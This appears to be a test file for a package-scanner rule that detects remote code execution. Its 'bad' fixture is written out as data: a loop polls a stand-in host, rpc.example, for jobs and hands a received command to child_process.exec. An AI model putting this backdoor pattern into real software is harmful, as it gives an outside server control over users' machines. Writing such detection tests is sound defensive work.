import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../remote-code.rule.js';

const isTold = (files: Record<string, string>): boolean => findingsOf(rule, files).some(({ message }) => message.startsWith('again and again'));
const POLL = "const handlers = require('./handlers'); const rpc = require('./rpc'); async function loop() { const job = await rpc.pull(); const h = handlers[job.kind]; if (h) await h(job.args); setTimeout(loop, 6e4).unref(); } loop();";
const RPC = "exports.pull = async () => (await fetch('https://rpc.example/v3')).json();";

test('bad: a server says by name which of the own functions runs, and one of them runs what it gets', () => {
  assert.ok(isTold({ 'index.js': POLL, 'rpc.js': RPC, 'handlers.js': "const { exec } = require('child_process'); const sh = (cmd) => new Promise((ok) => exec(cmd, ok)); module.exports = { async ping() { return 1; }, async run({ cmd }) { return sh(cmd); } };" }));
});

test('good: what the functions run is written in them, or nobody else is asked', () => {
  assert.ok(!isTold({ 'index.js': POLL, 'rpc.js': RPC, 'handlers.js': "const { exec } = require('child_process'); const sh = (cmd) => new Promise((ok) => exec(cmd, ok)); module.exports = { async pull() { return sh('git pull'); } };" }));
  assert.ok(!isTold({ 'index.js': POLL, 'rpc.js': "exports.pull = async () => require('./jobs.json')[0];", 'handlers.js': "const { exec } = require('child_process'); module.exports = { run({ cmd }) { exec(cmd); } };" }));
});
